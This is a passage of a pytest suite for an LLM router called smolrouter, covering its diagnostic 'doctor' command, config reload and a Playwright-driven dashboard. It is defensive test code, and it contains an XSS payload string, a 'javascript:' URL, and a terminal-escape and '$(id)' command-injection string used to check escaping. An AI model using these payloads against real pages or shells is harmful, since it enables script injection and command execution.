    assert "tools: answered 400 (qwen3:8b does not support tools)" in printed
    assert paste(printed)["ollama"].api == "ollama"


def wants_a_key(received: Received) -> Iterable[Step]:
    """Refuse whoever has no key."""
    if received.get("Authorization") == "Bearer the key":
        return well_behaved(received)
    return json_response({"error": {"message": "Invalid API Key", "code": 401}}, 401)


def lies_below_api(received: Received) -> Iterable[Step]:
    """Answer under another path than most servers do."""
    if not received.path.startswith("/api/v1/"):
        return json_response({"detail": "Not Found"}, 404)
    return well_behaved(dataclasses.replace(received, target=received.target[4:]))


def fails_at_its_model(received: Received) -> Iterable[Step]:
    """List a model that is not there."""
    if received.path == "/v1/models":
        return well_behaved(received)
    words = "No models loaded. Please load a model in the developer page."
    return json_response({"error": {"message": words}}, 404)


def pings_for_ever(received: Received) -> Iterable[Step]:
    """Answer no chat, but show that one is being worked on."""
    if not received.path.startswith("/v1/chat/"):
        return well_behaved(received)
    return stream_response(itertools.chain.from_iterable(itertools.repeat((b": ping\n\n", 0.05))))


PAGE = whole_response(b"<!doctype html><title>Chat</title>", kind="text/html")
WRONG_SERVERS: dict[str, tuple[Script, str]] = {
    "a wrong path": (lies_below_api, "the path is wrong: there is no /v1/models below ADDRESS. It "
                     "answers at ADDRESS/api: write that URL"),
    "a page": (lambda received: PAGE, "answers HTML; that is a page for browsers: look at the "
               "port, and at the path of the API"),
    "a key": (wants_a_key, "answered 401 (Invalid API Key); it wants a key: give it an `api_key`"),
    "another place": (lambda received: whole_response(b"", 308, [("Location", "https://box/v1")]),
                      "it is at https://box/v1 now: write that URL"),
    "no model": (lambda received: json_response({"data": []}), "no model loaded; load one there"),
    "none loaded": (fails_at_its_model, "(No models loaded. Please load a model in the developer "
                    "page.); load a model there"),
    "still loading": (lambda received: json_response({"error": {"message": "Loading model"}}, 503),
                      "answered 503 (Loading model); it may still be loading its model"),
    "no JSON": (lambda received: whole_response(b"hello"), "answers text/plain that is no JSON"),
    "no HTTP": (lambda received: [b"220 mail\r\n", CLOSE], "that is no HTTP: try https://"),
    "silence": (lambda received: [HANG], "timed out; it took the connection"),
    "pings alone": (pings_for_ever, "tiny: timed out; it took the connection"),
}  # fmt: skip


@pytest.mark.parametrize("wrong", WRONG_SERVERS)
def test_doctor_says_what_helps(wrong: str, capsys: pytest.CaptureFixture[str]) -> None:
    script, words = WRONG_SERVERS[wrong]
    limits = smolrouter.Limits(probe_timeout=1.0, probed_model_timeout=1.0)
    with Upstream(script) as upstream:
        status, printed = run_doctor(capsys, upstream.url, limits=limits)
        assert status == 1
        remedies = " ".join(printed.partition("\nremedies\n")[2].split())
        assert words.replace("ADDRESS", upstream.url) in remedies, remedies


def test_doctor_says_what_helps_where_nobody_answers(capsys: pytest.CaptureFixture[str]) -> None:
    url = refusing_url()
    with Upstream() as upstream:
        servers = f"on={upstream.url} off={url} lost=http://nobody.invalid:8000"
        status, printed = run_doctor(capsys, SERVERS=servers)
    assert status == 1
    remedies = " ".join(printed.partition("\nremedies\n")[2].partition("\n\n")[0].split())
    port = url.rpartition(":")[2]
    assert f"off: connection refused; it is off, or not at port {port}, or listens on" in remedies
    assert "correct nobody.invalid, or write its address" in remedies
    assert "on: " not in remedies
    # What does not work is there, and does not count.
    assert list(paste(printed)) == ["on"]
    assert f'# "off": {{"url": "{url}"}}' in printed


def test_doctor_prints_no_key(capsys: pytest.CaptureFixture[str], tmp_path: pathlib.Path) -> None:
    with Upstream(wants_a_key) as upstream:
        server = {"url": upstream.url, "api_key": "the key", "headers": {"X-Team": "secret"}}
        path = tmp_path / "routes.json"
        path.write_text(json.dumps({"servers": {"gpu-1": server}}))
        status, printed = run_doctor(capsys, upstream.url, ROUTES_CONFIG=path)
    assert (status, "the key" in printed, "secret" in printed) == (0, False, False)
    assert row_after(printed, "server", "gpu-1")[2] == "1"
    pasted = paste(printed, GPU_1_KEY="k", GPU_1_FIELD="f")["gpu-1"]
    assert (pasted.api_key, pasted.headers) == ("k", (("X-Team", "f"),))


def test_doctor_takes_the_models_of_the_routing_file(
    capsys: pytest.CaptureFixture[str], tmp_path: pathlib.Path
) -> None:
    """Its server has no list."""

    def serve(received: Received) -> Iterable[Step]:
        if received.path == "/v1/models":
            return json_response({"detail": "Not Found"}, 404)
        return well_behaved(received)

    with Upstream(serve) as upstream:
        path = tmp_path / "routes.json"
        servers = {"cloud": {"url": upstream.url, "models": ["gpt-5-mini"]}}
        path.write_text(json.dumps({"servers": servers}))
        status, printed = run_doctor(capsys, upstream.url, ROUTES_CONFIG=path)
    assert (status, row_after(printed, "server", "cloud")[2]) == (0, "1")
    assert row_after(printed, "chat", "cloud")[0] == "gpt-5-mini"
    assert paste(printed)["cloud"].models == ("gpt-5-mini",)


def test_doctor_refuses_what_is_no_url() -> None:
    with pytest.raises(smolrouter.ConfigError, match="doctor 'ftp://box': scheme 'ftp'"):
        smolrouter.run_command(["doctor", "ftp://box"], {})


# --- memory, and the end ---

# What a process runs whose router tells on stderr when some function of the program is called.
START_WITH_WATCH = """
import sys
sys.path.insert(0, {folder!r})
import smolrouter
owner = {owner}
called = owner.{name}

def watched(*args):
    called(*args)
    print("called", args[-1:], file=sys.stderr, flush=True)

owner.{name} = watched
sys.exit(smolrouter.main(sys.argv[2:], smolrouter.Limits(reload_interval=0.05)))
"""


def watched_router(owner: str, name: str, **settings: Any) -> Router:
    """Start a router that prints a line, `called`, whenever this function has been called."""
    code = START_WITH_WATCH.format(folder=str(SMOLROUTER.parent), owner=owner, name=name)
    settings = {"DEFAULT_UPSTREAM": default_upstream().url, "WEBUI_SECURITY": "NONE", **settings}
    return Router(settings, python=(sys.executable, "-c", code))


def test_memory_is_given_back_when_requests_have_ended() -> None:
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([RAW_WORD], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(RAW_STOP, RAW_DONE)

    model = default_upstream().add_script(script)
    with watched_router("smolrouter", "return_memory", LOG_LEVEL="ERROR") as router:

        def settled() -> int:
            """Return how often it was given back, when that seems to be over."""
            seen = -1
            while seen != router.stderr.count("called"):
                seen = router.stderr.count("called")
                time.sleep(0.3)
            return seen

        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            asked = pool.submit(post_chat, router, model, stream=True)
            assert wait_until(lambda: get_document(router, "/api/inflight"))
            before = settled()
            gate.set()
            assert asked.result().status == 200
        assert wait_until(lambda: router.stderr.count("called") > before)
        # So it is after what the page asks.
        before = settled()
        assert get_document(router, "/api/logs")
        assert wait_until(lambda: router.stderr.count("called") > before)


# --- a routing file that changes ------------------------------------------------------


def moving_table(upstream: str) -> str:
    """Make a routing file that sends the model `moving` to this upstream."""
    return json.dumps({"aliases": {"moving": {"instances": [{"url": upstream, "model": "m"}]}}})


@pytest.mark.parametrize("by_signal", [True, False])
def test_reload(by_signal: bool) -> None:
    def says(word: str) -> Upstream:
        return Upstream(lambda r: json_response({"by": word}))

    with says("old") as old, says("new") as new, Router({}, moving_table(old.url)) as router:

        def written(text: str) -> None:
            fresh = router.folder / "fresh"
            fresh.write_text(text)
            os.replace(fresh, router.routes)
            if by_signal:
                router.signal(signal.SIGHUP)

        assert post_chat(router, "moving").json == {"by": "old"}
        quiet = len(router.stderr)
        written('{"aliases": {"moving": {"instances": []}}}')
        assert wait_until(lambda: "moving" in router.stderr[quiet:])
        assert post_chat(router, "moving").json == {"by": "old"}
        written(moving_table(new.url))
        assert wait_until(lambda: post_chat(router, "moving").json == {"by": "new"})
        written("{nonsense")
        quiet = len(router.stderr)
        assert wait_until(lambda: "table.conf" in router.stderr[quiet:])
        assert post_chat(router, "moving").json == {"by": "new"}
        assert router.process.poll() is None


# ======================================================================================
# A  The page
# ======================================================================================
# dashboard.html in a real browser, with a real router and real upstreams. Whatever a test
# does, no request may leave the machine and the console stays free of errors.

EVIL_TEXT = "<script>window.pwned=1</script>\u202e\"'&\u2028<img src=x onerror=window.pwned=1>"
TOOL_TALK = [
    {"role": "system", "content": "Be brief."},
    {
        "role": "user",
        "content": [
            {"type": "text", "text": "How is the weather?"},
            {
                "type": "image_url",
                "image_url": {"url": "data:image/gif;base64,R0lGODlhAQABAAAAACw="},
            },
            {"type": "image_url", "image_url": {"url": "http://192.0.2.1/cat.png"}},
            {"type": "image_url", "image_url": {"url": "javascript:alert(1)"}},
        ],
    },
    {
        "role": "assistant",
        "content": None,
        "tool_calls": [
            {
                "id": "call_1",
                "type": "function",
                "function": {"name": "get_weather", "arguments": '{"city": "Zürich"}'},
            }
        ],
    },
    {"role": "tool", "tool_call_id": "call_1", "content": '{"sky": "fog"}'},
]


def page_router(name: str = "", **settings: Any) -> Router:
    """Return a shared router that serves dashboard.html itself; each name has one of its own."""
    routes = {
        "servers": {"off": "http://127.0.0.1:9", "box": default_upstream().url},
        "aliases": {
            "coder": {"instances": ["off/tiny", "box/tiny"]},
            f"own-{name}": {"instances": ["box/tiny"]},
        },
        "routes": [{"match": {"model": "gpt-4"}, "route": {"upstream": "box", "model": "small"}}],
    }
    settings = {"DEFAULT_UPSTREAM": default_upstream().url, "LOG_LEVEL": "ERROR", **settings}
    return shared_router(settings, routes, ("serve", "--dashboard", str(HERE / "dashboard.html")))


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    """Start one browser for all tests of the page."""
    playwright = import_or_skip("playwright.sync_api")
    with playwright.sync_playwright() as running:
        started = running.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture
def tab(chromium: Any) -> Iterator[Any]:
    """Open a page in a fresh profile; `tab.wrong` gathers what its console complains about."""
    # A browser with a window: to one that only prints the page, events come late.
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, user_agent="Chrome")
    page = context.new_page()
    asked = set()
    page.set_default_timeout(PATIENCE * 1000)
    page.wrong = []
    page.on(
        "console", lambda said: said.type in ("error", "warning") and page.wrong.append(said.text)
    )
    page.on("pageerror", lambda error: page.wrong.append(str(error)))
    page.on("request", lambda made: asked.add(urllib.parse.urlsplit(made.url).hostname))
    yield page
    context.close()
    assert not page.wrong
    # A `data:` URL has no host.
    assert asked <= {"127.0.0.1", None}


def newest(router: Router, model: str) -> dict[str, Any]:
    """Wait for the newest request for a model to be finished and written; return its row."""
    path = "/api/logs?limit=1&model=" + urllib.parse.quote(model)

    def ended() -> Any:
        rows = json.loads(request(router.port, "GET", path).content)
        return rows and not rows[0]["is_inflight"] and rows[0]

    return wait_until(ended)


def wait_text(tab: Any, selector: str, text: str) -> str:
    """Wait until an element holds a text, and return all of its text."""
    place = tab.locator(selector)
    assert wait_until(lambda: text in (place.text_content() or "")), (text, place.text_content())
    return place.text_content()


def expect_wrong(tab: Any, status: str) -> None:
    """End a test whose page was refused something with this status, and only that."""
    # Nothing can come later.
    tab.close()
    assert all(status in wrong for wrong in tab.wrong), tab.wrong
    tab.wrong.clear()


def wait_rows(tab: Any, number: int) -> list[str]:
    """Wait until the table of requests has so many rows, and return their texts."""
    rows = tab.locator("#rows tbody tr")
    assert wait_until(lambda: rows.count() == number), (tab.url, rows.count(), tab.wrong)
    return rows.all_text_contents()


def test_page_filters_are_in_its_address(tab: Any) -> None:
    router = page_router("filters")
    for model in ("tiny", "gpt-4", "coder"):
        post_chat(router, model)
    request(router.port, "POST", "/api/chat", chat_document("own-filters", stream=False))
    broken = default_upstream().add_script(json_response({"error": {"message": "so sorry"}}, 503))
    post_chat(router, broken)
    newest(router, broken)
    tab.goto(router.url)
    rows = wait_rows(tab, 5)
    assert "✕ so sorry" in rows[0] and "own-filters → tiny" in rows[1]
    assert "coder → tiny" in rows[2] and "answered at try 2" in rows[2]
    assert "gpt-4 → small" in rows[3] and "7 → 3" in rows[4]
    tab.select_option("#filters [name=status]", "error")
    assert broken in wait_rows(tab, 1)[0]
    assert tab.url.endswith("/?status=error")
    tab.click("#filters [type=reset]")
    wait_rows(tab, 5)
    assert tab.url.endswith("/")
    tab.select_option("#filters [name=service_type]", "ollama")
    wait_rows(tab, 1)
    tab.select_option("#filters [name=service_type]", "")
    tab.fill("#filters [name=model]", "gpt-4")
    wait_rows(tab, 1)
    tab.fill("#filters [name=q]", "no such thing")
    wait_text(tab, "#rows-empty", "No request matches")
    tab.fill("#filters [name=q]", "small")
    assert wait_until(lambda: tab.evaluate("location.search") == "?q=small&model=gpt-4")
    tab.reload()
    assert "gpt-4 → small" in wait_rows(tab, 1)[0]
    assert tab.input_value("#filters [name=model]") == "gpt-4"
    tab.fill("#filters [name=q]", "")
    for server, count in (("box", 1), ("off", 0), (default_upstream().url.partition("://")[2], 1)):
        tab.fill("#filters [name=upstream]", server)
        wait_rows(tab, count)
    assert wait_until(lambda: tab.locator("#upstreams option[value=box]").count())
    assert tab.title() == "Overview · SmolRouter"
    # A status that the list does not have is in force all the same; nonsense is refused.
    tab.goto(f"{router.url}/?status=503")
    assert broken in wait_rows(tab, 1)[0]
    assert tab.input_value("#filters [name=status]") == "503"
    tab.click("#filters [type=reset]")
    wait_rows(tab, 5)
    assert tab.url.endswith("/")
    tab.goto(f"{router.url}/?status=banana")
    wait_text(tab, "#troubles", "status='banana': allowed are a status such as 404")
    tab.goto(f"{router.url}/performance?model=small&y=banana")
    assert wait_until(lambda: tab.text_content("#chart-note") == "1 request")
    assert tab.input_value("#lens [name=y]") == "duration_ms"
    assert tab.title() == "Performance · SmolRouter"
    tab.fill("#lens [name=model]", "nobody")
    wait_text(tab, "#chart-empty", "No request of this model is there.")
    expect_wrong(tab, "400")


def test_page_shows_an_error_behind_a_good_status(tab: Any) -> None:
    router = page_router("late")
    said = [*map(encode_event, TWO_WORDS), encode_event({"error": {"message": "no memory"}})]
    model = default_upstream().add_script(sse_response(said))
    post_chat(router, model, stream=True)
    number = newest(router, model)["id"]
    tab.goto(f"{router.url}/?model={model}")
    (row,) = wait_rows(tab, 1)
    assert "✕ no memory" in row
    assert tab.locator("#rows .is-bad").count() == 1
    tab.goto(f"{router.url}/request/{number}")
    wait_text(tab, "#head .badge.bad", "✕ failed")
    wait_text(tab, "#reason", "no memory")
    tab.goto(f"{router.url}/performance?model={model}")
    assert wait_until(lambda: tab.locator(".dots.hollow").count() == 1)


def test_page_says_when_nobody_answers(tab: Any) -> None:
    tab.add_init_script("""  // what takes 15 s takes half a second
        const after = AbortSignal.timeout.bind(AbortSignal);
        AbortSignal.timeout = ms => after(ms / 30);
    """)
    router = page_router("silent")
    tab.goto(router.url)
    assert wait_until(lambda: tab.text_content("#live") == "Live")
    # The process stands still, but its connections stay open.
    router.signal(signal.SIGSTOP)
    try:
        tab.evaluate("refresh()")
        wait_text(tab, "#troubles", "The router does not answer.")
        assert tab.locator(".trouble").count() == 1
        assert tab.text_content("#live") == "Not live"
    finally:
        router.signal(signal.SIGCONT)
    # The page becomes live again by itself.
    assert wait_until(lambda: tab.text_content("#live") == "Live")
    assert tab.locator(".trouble").count() == 0


def test_page_is_used_with_the_keyboard(tab: Any) -> None:
    router = page_router("keys")
    for word in ("one", "two", "three"):
        post_chat(router, "own-keys", word)
        newest(router, "own-keys")
    tab.goto(router.url)
    wait_rows(tab, 3)
    for key in "jjjjk":
        tab.keyboard.press(key)
    tab.keyboard.press("Enter")
    wait_text(tab, "#turns", "You said: two")
    tab.keyboard.press("j")
    wait_text(tab, "#turns", "You said: one")
    tab.keyboard.press("k")
    wait_text(tab, "#turns", "You said: two")
    tab.keyboard.press("Escape")
    wait_rows(tab, 3)
    # Back leads to the row that was left.
    focused = "document.activeElement.closest('tr')?.rowIndex"
    assert wait_until(lambda: tab.evaluate(focused) == 2)
    tab.keyboard.press("/")
    tab.keyboard.type("jk")
    assert tab.input_value("#filters [name=q]") == "jk"
    wait_rows(tab, 0)
    tab.keyboard.press("Escape")
    assert tab.evaluate("document.activeElement === document.body")


# The points of the chart as they are drawn: each mark begins at its middle.
CHART = """() => {
    const marks = [...document.querySelectorAll("#chart .dots")]
        .flatMap(path => path.getAttribute("d").match(/M[\\d.]+ [\\d.]+/g));
    const isDrawn = ([x, y]) => marks.includes(`M${x.toFixed(1)} ${y.toFixed(1)}`);
    return (app.places ?? []).filter(isDrawn).map(([x, y, one]) => [one.id, x, y]);
}"""


def in_line(pairs: list[tuple[float, float]]) -> bool:
    """Tell whether pixels are a linear function of values, to a pixel."""
    (low, start), (high, end) = min(pairs), max(pairs)
    return all(abs(start + (end - start) * (v - low) / (high - low) - at) < 1 for v, at in pairs)


def test_chart_shows_the_points_of_the_api(tab: Any) -> None:
    router = page_router("chart")
    for number in range(1, 8):
        post_chat(router, ("tiny", "gpt-4", "coder")[number % 3], "word " * number, stream=True)
    assert wait_until(lambda: len(get_document(router, "/api/performance")["data_points"]) == 7)
    tab.goto(f"{router.url}/performance?scale=none&x=total_tokens")
    points = {p["id"]: p for p in get_document(router, "/api/performance")["data_points"]}
    assert wait_until(lambda: len(tab.evaluate(CHART)) == len(points) == 7)
    dots = tab.evaluate(CHART)
    assert {dot[0] for dot in dots} == set(points)
    assert in_line([(points[id]["total_tokens"], x) for id, x, _ in dots])
    assert in_line([(-points[id]["duration_ms"], y) for id, _, y in dots])
    tab.select_option("#lens [name=scale]", "xy")
    assert wait_until(lambda: tab.evaluate(CHART) != dots) and "scale" not in tab.url
    dots = tab.evaluate(CHART)
    assert in_line([(math.log(points[id]["total_tokens"]), x) for id, x, _ in dots])
    # The arrow keys read the points from left to right; Enter opens one.
    tab.focus("#chart svg")
    for key in ("Home", "ArrowRight", "End"):
        tab.keyboard.press(key)
    last = points[max(dots, key=lambda dot: dot[1])[0]]
    said = wait_text(tab, "#chart-says", f"7 → {last['completion_tokens']} tokens")
    assert last["model"] in said and "status 200" in said
    # The legend hides a model, and the address keeps that.
    tab.click("#legend button:has-text('small')")
    small = [p for p in points.values() if p["model"] == "small"]
    assert wait_until(lambda: len(tab.evaluate(CHART)) == 7 - len(small))
    assert "hide=small" in tab.evaluate("location.search")
    models = tab.locator("#leaders tbody td:first-child")
    assert models.all_text_contents() == ["tiny", "small"]
    tab.click("#leaders th:has-text('Model')")
    assert models.all_text_contents() == ["small", "tiny"]
    assert "sort=model" in tab.evaluate("location.search")
    tab.click("#leaders th:has-text('Model')")
    assert models.all_text_contents() == ["tiny", "small"]
    leaders = get_document(router, "/api/trends")["leaders"]
    shown = dict(zip(models.all_text_contents(), tab.locator("#leaders td:nth-child(3)").all()))
    for leader in leaders:
        assert shown[leader["model"]].text_content() == str(leader["requests"])
    tab.locator("#chart svg").first.focus()
    tab.keyboard.press("End")
    tab.keyboard.press("Enter")
    wait_text(tab, "#turns", "You said: word")
    exported = request(router.port, "GET", "/api/export?since=24h&format=csv").content
    assert exported.count(b"\n") == 8


def test_export_has_what_the_chart_shows(tab: Any) -> None:
    router = page_router("export")
    odd_name = '=odd "name", é'
    for model in ("tiny", "gpt-4", odd_name, odd_name):
        post_chat(router, model, "some words", stream=True)
    request(router.port, "POST", "/api/chat", chat_document("own-export", stream=False))

    def points() -> list[dict[str, Any]]:
        return get_document(router, "/api/performance")["data_points"]

    assert wait_until(lambda: len(points()) == 5)
    tab.goto(f"{router.url}/performance")

    def exported(number: int) -> list[dict[str, Any]]:
        """Return the rows of the export, once the chart shows so many points."""
        assert wait_until(lambda: len(tab.evaluate(CHART)) == number)
        with tab.expect_download() as download:
            tab.click("#export")
        assert download.value.suggested_filename == "smolrouter.csv"
        with open(download.value.path(), encoding="utf-8", newline="") as file:
            return list(csv.DictReader(file))

    def as_texts(shown: Iterable[Mapping[str, Any]]) -> list[dict[str, str]]:
        """Return points as a table has them: values as JavaScript writes them, None as nothing."""
        rows = []
        for point in shown:
            named = {name: "" if value is None else value for name, value in point.items()}
            named["failed"] = str(point["failed"]).lower()
            rows.append({name: str(value).removesuffix(".0") for name, value in named.items()})
        return rows

    assert exported(5) == as_texts(points())
    tab.click("#legend button:has-text('small')")
    assert exported(4) == as_texts(point for point in points() if point["model"] != "small")
    tab.select_option("#lens [name=service_type]", "openai")
    of_openai = [point for point in points() if point["service_type"] == "openai"]
    assert exported(3) == as_texts(point for point in of_openai if point["model"] != "small")
    tab.fill("#lens [name=model]", odd_name)
    assert {row["model"] for row in exported(2)} == {odd_name}


def test_running_requests_grow_and_stop(tab: Any) -> None:
    router = page_router("live")
    gates = [threading.Event() for _ in range(2)]

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event(TWO_WORDS[0])], whole=False)
        for gate, more in zip(gates, (TWO_WORDS[1], FINISH)):
            gate.wait(PATIENCE)
            yield from encode_chunks(encode_event(more), end=b"")
        yield HANG

    name = default_upstream().add_script(script)
    tab.goto(router.url)
    wait_text(tab, "#rows-empty", "No request yet")
    assert f"curl {router.url}/v1/chat/completions" in tab.locator("#rows-empty").text_content()
    wait_text(tab, "#lanes", "Nothing is running")
    tile = "document.querySelector('#strip').textContent.match(/Running([0-9]+)/)?.[1]"
    assert wait_until(lambda: tab.evaluate(tile) == "0")
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        asked = pool.submit(post_chat, router, name, stream=True)
        assert wait_until(lambda: tab.evaluate("document.querySelector('.lane')?.textContent"))
        # The figure counts it as soon as the list has it.
        assert tab.evaluate(tile) == "1"
        # It appears without a reload.
        wait_text(tab, ".lane", "streaming")
        assert name in wait_rows(tab, 1)[0]
        assert wait_text(tab, ".lane .tail", "one ") == "one "
        gates[0].set()
        assert wait_text(tab, ".lane .tail", "two") == "one two"
        tab.click(".lane button:has-text('Stop')")
        wait_text(tab, "#lanes", "Nothing is running")
        assert b"cancelled" in asked.result().content
        gates[1].set()
    wait_text(tab, "#rows tbody tr", "⚠ stopped")
    assert wait_until(lambda: default_upstream().connection_of(name).closed)


def test_request_that_runs_is_updated(tab: Any) -> None:
    router = page_router("runs")
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event(TWO_WORDS[0])], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(
            encode_event(TWO_WORDS[1]), encode_event(FINISH), encode_event("[DONE]")
        )

    name = default_upstream().add_script(script)
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(post_chat, router, name, stream=True)
        running = wait_until(
            lambda: json.loads(request(router.port, "GET", "/api/inflight").content)
        )
        tab.goto(f"{router.url}/request/{running[0]['id']}")
        wait_text(tab, "#head", "… streaming")
        wait_text(tab, "#turns", "one ")
        tab.evaluate("window.kept = document.querySelector('.turn')")
        wait_text(tab, ".key", "answer")
        assert "in all 0 ms" not in tab.locator(".key").text_content()
        full = (
            "(bars => bars.lastElementChild.getBoundingClientRect().right / "
            "bars.getBoundingClientRect().right)(document.querySelector('.phases'))"
        )
        assert tab.evaluate(full) > 0.99
        gate.set()
    wait_text(tab, "#head", "✓ answered")
    assert wait_text(tab, "#answer", "two").endswith("one two")
    # The element is still the same one: it was updated, not made anew.
    assert tab.evaluate("kept === document.querySelector('.turn')")


def test_request_reads_as_a_conversation(tab: Any) -> None:
    router = page_router("talk")
    thinking = {"choices": [{"index": 0, "delta": {"reasoning_content": "Fog, then."}}]}
    name = default_upstream().add_script(sse_response([thinking, *TWO_WORDS, FINISH, "[DONE]"]))
    default_upstream().scripts["tiny-talk"] = default_upstream().scripts[name]
    document = {"model": name, "messages": TOOL_TALK, "stream": True, "seed": 12345678901234567890}
    request(
        router.port,
        "POST",
        "/v1/chat/completions",
        document,
        [(name, "Bearer sk-very-secret-0123") for name in ("Authorization", "X-Api-Key")],
    )
    row = newest(router, name)
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    tab.goto(f"{router.url}/request/{row['id']}")
    turns = tab.locator(".turn")
    assert wait_until(lambda: turns.count() == 5)
    system, user, call, result, answered = (turn.inner_text() for turn in turns.all())
    assert system.split() == ["System", "Be", "brief."]
    assert user.startswith("User") and "How is the weather?" in user
    assert 'calls get_weather\n{\n  "city": "Zürich"\n}' in re.sub(r"\n+", "\n", call)
    assert result.startswith("Tool result") and '"sky": "fog"' in result
    assert answered.startswith("Answer") and answered.endswith("one two")
    # The thinking is folded away.
    assert "Fog" not in answered
    tab.click("#answer .thought summary")
    answer = tab.locator("#answer").inner_text()
    assert "Fog, then." in answer and answer.endswith("one two")
    # A picture stands behind the text that it followed.
    assert re.search("weather[?].*<img", tab.locator(".turn.user .said").inner_html(), re.DOTALL)
    assert tab.evaluate("[...document.images].map(i => i.src.slice(0, 15))") == ["data:image/gif;"]
    links = tab.locator(".turn a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert links == ["http://192.0.2.1/cat.png", None]
    # Raw: fields and contents of both directions, no secret anywhere.
    for side in ("request", "response"):
        tab.click(f"[data-side={side}] > summary")
    assert '"seed"' in tab.locator("[data-side=request] pre").text_content()
    assert '"content":"two"' in tab.locator("[data-side=response] pre").text_content()
    assert "content-type" in tab.locator("[data-side=response] dl").text_content().lower()
    assert "very-secret" not in tab.content()
    # The command that is copied sends the same content again.
    tab.click("text=Copy as curl")
    command = wait_until(lambda: tab.evaluate("navigator.clipboard.readText()"))
    assert command.startswith("curl ") and "very-secret" not in command
    assert "Authorization: Bearer $API_KEY" in command
    if shutil.which("curl"):
        before = len(default_upstream().requests_for(name))
        subprocess.run(["sh", "-c", command], capture_output=True, timeout=PATIENCE, check=True)
        again = wait_until(lambda: default_upstream().requests_for(name)[before:])
        assert again[0].content == default_upstream().requests_for(name)[0].content


# In a terminal these end a paste, move the cursor, are a second line or turn the text round.
OBEYED_BY_TERMINALS = "".join(map(chr, [*range(1, 32), *range(127, 160), 0x2028, 0x2029, 0xFEFF]))
TURNED_ROUND = "".join(map(chr, [0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), 0x2066, 0x2069]))


def test_copied_command_has_no_control_characters(tab: Any) -> None:
    router = page_router("paste")
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    text = f"\x1b[201~; touch owned\n{OBEYED_BY_TERMINALS}{TURNED_ROUND}7'8\\n!! $(id) `id` é😀"
    accept = "text/plain; a=caf\xe9 \x9b201~"

    def open_request(path: str, content: bytes) -> None:
        fields = [("Content-Type", "text/plain"), ("Accept", accept)]
        assert request(router.port, "POST", path, content, fields).status == 200
        row = wait_until(lambda: get_document(router, f"/api/logs?q={path}"))[0]
        tab.goto(f"{router.url}/request/{row['id']}")
        wait_text(tab, "#head", "Copy as curl")

    open_request("/v1/paste", text.encode())
    tab.click("text=Copy as curl")
    command = wait_until(lambda: tab.evaluate("navigator.clipboard.readText()"))
    # The lines of the command itself are joined by a backslash.
    kinds = {unicodedata.category(one) for one in command.replace(" \\\n  ", " ")}
    assert not kinds & {"Cc", "Cf", "Zl", "Zp"}
    # What a shell makes of it is what was sent, to the octet.
    for shell in filter(shutil.which, ("bash", "zsh", "ksh")):
        script = f"""curl() {{ printf '%s\\0' "$@"; }}; {command}"""
        done = subprocess.run([shell, "-c", script], capture_output=True, timeout=PATIENCE)
        words = done.stdout.split(b"\0")
        assert words[words.index(b"--data-raw") + 1] == text.encode()
        assert b"Accept: " + accept.encode("latin-1") in words
    # No word of a command can have a NUL in it.
    open_request("/v1/nul", b"a\0b")
    assert tab.locator("text=Copy as curl").is_disabled()


def test_request_shows_how_it_was_routed(tab: Any) -> None:
    router = page_router("trail")
    post_chat(router, "coder")
    row = newest(router, "coder")
    devtools = tab.context.new_cdp_session(tab)
    devtools.send("Emulation.setTimezoneOverride", {"timezoneId": "Asia/Tokyo"})
    tab.goto(f"{router.url}/request/{row['id']}")
    trail = wait_text(tab, "#story > .trail", "answered")
    for text in (
        "→asked for coder",
        "→by alias coder",
        "✕off/tiny failed: connection refused",
        "✓box/tiny answered: 200",
    ):
        assert text in trail, (text, trail)
    assert "failed attempts" in tab.locator(".key").text_content()
    begun, ended = (
        str(datetime.datetime.fromisoformat(row[name][:19]) + datetime.timedelta(hours=9))
        for name in ("timestamp", "completed_at")
    )
    # All times are in the local time of the browser.
    assert "answered at try 2" in tab.text_content(".notice")
    assert f"Started{begun}" in tab.text_content(".facts")
    assert f"Ended{ended}" in tab.text_content(".facts")
    tab.click("#rules > summary")
    assert "aliases.coder" in tab.locator("#rules").inner_text()
    tab.goto(f"{router.url}/request/7")
    wait_text(tab, "#request", "no such request")
    expect_wrong(tab, "404")


def test_sign_in_and_out(tab: Any) -> None:
    secret = {"JWT_SECRET": SECRET_KEY, "WEBUI_SECURITY": "ALWAYS_AUTH"}
    router = page_router("door", **secret)
    token = smolrouter.encode_token(SECRET_KEY, "me", time.time(), 1)
    tab.goto(f"{router.url}/performance")
    assert tab.locator("#sign-in").is_visible() or tab.wait_for_selector("#sign-in")
    tab.fill("[name=token]", "wrong")
    tab.keyboard.press("Enter")
    assert "Authorization" not in wait_text(tab, "#sign-in-error", "token")
    tab.fill("[name=token]", f" {token} ")
    tab.click("#sign-in button")
    tab.wait_for_selector("#performance", state="visible")
    wait_text(tab, "#live", "Live")
    other = tab.context.new_page()
    other.goto(router.url)
    wait_text(other, "#live", "Live")
    tab.click("#sign-out")
    for one in (tab, other):
        one.wait_for_selector("#sign-in", state="visible")
    assert not tab.locator("#overview").is_visible()
    expect_wrong(tab, "401")


def test_chat_is_tried_and_routing_explained(tab: Any) -> None:
    router = page_router("try")
    tab.goto(router.url)
    wait_text(tab, "#rows-empty", "No request yet")
    tab.click("#try-button")
    assert wait_until(lambda: tab.locator("#models option[value=coder]").count())
    tab.fill("#try-form [name=model]", "coder")
    tab.fill("#try-form [name=message]", "Hello there")
    tab.focus("#try-form [name=message]")
    tab.keyboard.press("Control+Enter")
    assert wait_text(tab, "#try-answer", "there") == "You said: Hello there"
    assert "tiny on box · first token " in wait_text(tab, "#try-note", "its request")
    tab.keyboard.press("Escape")
    wait_text(tab, "#rows tbody", "coder → tiny")
    tab.click("#explain-button")
    tab.fill("[name=explain]", "gpt-4")
